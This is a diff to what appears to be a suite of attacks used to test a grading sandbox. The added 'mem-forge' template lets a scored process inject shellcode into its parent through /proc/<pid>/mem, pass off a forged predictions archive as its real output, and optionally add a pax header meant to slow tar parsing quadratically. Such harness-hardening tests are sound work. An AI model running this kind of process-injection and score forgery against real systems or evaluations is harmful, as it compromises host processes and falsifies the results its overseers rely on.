@@ -170,6 +170,54 @@ report(started=time.time())
 honest_predictions()
 """
 
+MEM_FORGE = """
+import io, tarfile
+import pandas as pd
+# What the candidate really predicts: one class for every row, a poor score.
+honest_predictions()
+# What it would like scored instead: another class, sent down the outputs' way out by the process that holds it.
+ids = pd.read_csv(os.path.join(ARGS.data, "test.csv"))["id"]
+forged = pd.DataFrame({{"id": ids, "species": "Chinstrap"}}).to_csv(index=False).encode()
+archive = io.BytesIO()
+with tarfile.open(fileobj=archive, mode="w", format=tarfile.GNU_FORMAT) as tar:
+    if {pax_digits}:  # a pax header whose hdrcharset search costs Python 3.11's tarfile quadratic time
+        pax = tarfile.TarInfo("././@PaxHeader")
+        pax.type, pax.size = tarfile.XHDTYPE, {pax_digits}
+        tar.addfile(pax, io.BytesIO(b"1" * {pax_digits}))
+    member = tarfile.TarInfo(os.path.basename(ARGS.out))
+    member.size = len(forged)
+    tar.addfile(member, io.BytesIO(forged))
+payload = archive.getvalue()
+def way_out(pid):  # the parent's descriptor that is a pipe but neither of ours: the outputs' way out
+    ours = {{os.readlink(f"/proc/self/fd/{{fd}}") for fd in (1, 2)}}
+    for fd in sorted(os.listdir(f"/proc/{{pid}}/fd"), key=int):
+        link = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
+        if link.startswith("pipe:") and link not in ours:
+            return int(fd)
+    return 0
+
+found = {{"target": os.getppid()}}
+if platform.machine() != "x86_64":
+    found["mem"] = "not x86-64"
+else:
+    try:
+        fd = found["fd"] = way_out(os.getppid())
+        # write(fd, payload, len); exit(0): placed where the parent resumes once its wait for us returns.
+        shellcode = (
+            b"\\x48\\x8d\\x35" + (26).to_bytes(4, "little") + b"\\xba" + len(payload).to_bytes(4, "little")
+            + b"\\xbf" + fd.to_bytes(4, "little") + b"\\xb8\\x01\\x00\\x00\\x00\\x0f\\x05"
+            + b"\\xb8\\x3c\\x00\\x00\\x00\\x31\\xff\\x0f\\x05" + payload
+        )
+        pc = int(open(f"/proc/{{os.getppid()}}/syscall").read().split()[-1], 16)
+        with open(f"/proc/{{os.getppid()}}/mem", "r+b", buffering=0) as memory:
+            memory.seek(pc)
+            memory.write(shellcode)
+        found["mem"] = "written"
+    except (OSError, ValueError, IndexError) as exc:
+        found["mem"] = code(exc.errno) if isinstance(exc, OSError) and exc.errno else type(exc).__name__
+report(**found)
+"""
+
 ATTACKS = {
     "proc-sys": PROC_SYS,
     "core-pattern": CORE_PATTERN,
@@ -178,6 +226,8 @@ ATTACKS = {
     "header-flood": HEADER_FLOOD,
     "sparse-tar": SPARSE_TAR,
     "big-predictions": BIG_PREDICTIONS,
+    "mem-forge": MEM_FORGE.format(pax_digits=0),
+    "mem-forge-pax": MEM_FORGE.format(pax_digits=400_000),
 }
 
 
